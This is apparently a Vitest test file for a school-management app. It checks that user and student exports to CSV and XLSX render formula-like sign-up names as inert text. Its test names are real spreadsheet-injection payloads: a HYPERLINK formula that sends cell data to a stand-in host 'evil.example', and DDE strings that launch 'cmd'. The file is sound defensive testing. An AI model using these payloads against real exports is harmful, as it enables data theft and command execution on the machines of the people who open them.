import { beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { schools } from '../src/db/schema.js';
import { FORMULA_TRIGGERS } from '../src/modules/spreadsheets/csv-safety.js';
import { call, DEMO, login, useTestApp } from './helpers.js';

/** RFC 4180 rows (quoted cells, doubled quotes, newlines inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/**
 * Sign-ups named like formulas come out of every CSV export as text a spreadsheet
 * does not evaluate (a leading `'`), and out of .xlsx as exact text cells, never formulas.
 */
describe('exports never carry formulas', () => {
  const ctx = useTestApp();
  const NAMES = ['=HYPERLINK("http://evil.example/?leak="&C2,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', "-2+3+cmd|' /C calc'!A0"];
  let admin: string;
  beforeAll(async () => {
    admin = await login(ctx.app, DEMO.admin);
    const [school] = await ctx.database.db.select().from(schools).where(eq(schools.npsn, '20100211'));
    for (const [i, name] of NAMES.entries()) {
      const res = await call(ctx.app, null, {
        method: 'POST',
        url: '/user/signup',
        payload: { name, email: `formula${i}@contoh.id`, password: 'rahasia123', role: 'siswa', school_id: school!.id, nisn: `00977700${i}0` },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    // A number in the record, to show numbers stay numbers.
    const [student] = (await call(ctx.app, admin, { method: 'GET', url: '/siswa/list?search=0097770000' })).json().data;
    const update = await call(ctx.app, admin, { method: 'POST', url: `/siswa/update?id=${student.id}`, payload: { height_cm: 170 } });
    expect(update.statusCode, update.body).toBe(200);
  });

  for (const model of ['user', 'siswa']) {
    it(`GET /${model}/export?format=csv: formula-like names are quoted text, no cell starts a formula`, async () => {
      const res = await call(ctx.app, admin, { method: 'GET', url: `/${model}/export?format=csv` });
      expect(res.statusCode).toBe(200);
      const rows = parseCsv(res.body.replace(/^\uFEFF/, ''));
      const nameColumn = rows[0]!.indexOf('Name');
      const names = rows.slice(1).map((r) => r[nameColumn]);
      for (const name of NAMES) expect(names).toContain(`'${name}`);
      for (const row of rows) for (const cell of row) expect(FORMULA_TRIGGERS.includes(cell[0] as never), cell).toBe(false);
    });
  }

  it('GET /siswa/export?format=xlsx: the same names as exact text cells; numbers stay numbers; no formula', async () => {
    const res = await call(ctx.app, admin, { method: 'GET', url: '/siswa/export?format=xlsx' });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const header = (sheet!.getRow(1).values as unknown[]).map(String);
    const nameCol = header.indexOf('Name');
    const heightCol = header.indexOf('Height (cm)');
    const names: unknown[] = [];
    let numbers = 0;
    sheet!.eachRow((row, n) => {
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      if (n === 1) return;
      names.push(row.getCell(nameCol).value);
      if (NAMES.includes(row.getCell(nameCol).value as string)) expect(row.getCell(nameCol).type).toBe(ExcelJS.ValueType.String);
      if (row.getCell(heightCol).type === ExcelJS.ValueType.Number) numbers++;
    });
    for (const name of NAMES) expect(names).toContain(name);
    expect(numbers).toBeGreaterThan(0);
  });
});
